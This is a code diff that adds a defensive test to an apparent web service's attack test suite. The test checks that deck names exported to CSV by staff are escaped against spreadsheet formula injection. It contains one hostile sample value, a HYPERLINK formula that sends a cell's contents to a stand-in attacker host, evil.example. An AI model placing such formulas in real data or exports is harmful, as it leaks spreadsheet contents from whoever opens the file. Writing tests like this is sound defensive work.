@@ -1,5 +1,7 @@
 """A member of the staff asks the admin for what its lists do not show, and somebody leads staff astray."""
 
+import csv
+from io import StringIO
 from urllib.parse import quote
 
 from tests.attacks.browser import staff_member
@@ -44,3 +46,22 @@ def test_signing_in_leads_nowhere_else(service: Stack) -> None:
         status, _, led_to = browser.post(address, username="led", password="correct horse battery")
         assert (status, led_to) == (302, "/admin/"), elsewhere
         assert browser.get(led_to)[0] == 200
+
+
+def test_a_deck_of_a_player_is_no_formula_in_the_table_of_the_staff(service: Stack) -> None:
+    token = service.sign_up("reckoner")
+    name = '=HYPERLINK("https://evil.example/"&A1,"Prize")'
+    body = {"ruleset": "invictus", "name": name, "name_ja": name, "cards": {}}
+    status, deck = service.send("POST", "/api/v1/decks", body, token)
+    assert status == 201, deck
+    manager = staff_member(service, "manager", "Deck managers")
+    columns = ("id", "ruleset", "name_en", "name_ja", "owner", "visibility", "note", "options", "cards")
+
+    status, file, _ = manager.post(
+        "/admin/decks/deck/export/", format="1", resource="", **{f"deckresource_{column}": "on" for column in columns}
+    )
+
+    assert status == 200 and file.startswith("\ufeff")
+    rows = list(csv.reader(StringIO(file.removeprefix("\ufeff"))))
+    assert [row[2] for row in rows if row[4] == "reckoner"] == [f"'{name}"]
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
